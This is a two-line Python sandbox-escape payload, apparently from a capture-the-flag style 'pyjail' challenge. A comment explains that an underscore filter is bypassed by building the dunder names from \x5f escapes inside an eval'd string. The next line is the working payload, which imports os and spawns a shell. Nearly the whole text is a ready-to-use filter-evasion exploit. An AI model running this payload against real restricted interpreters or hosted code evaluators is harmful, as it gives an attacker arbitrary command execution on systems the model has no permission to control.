# restriction: no underscore character; idea: \x5f escapes inside a string passed to eval produce the dunder names
eval('\x5f\x5fimport\x5f\x5f("os").system("sh")')
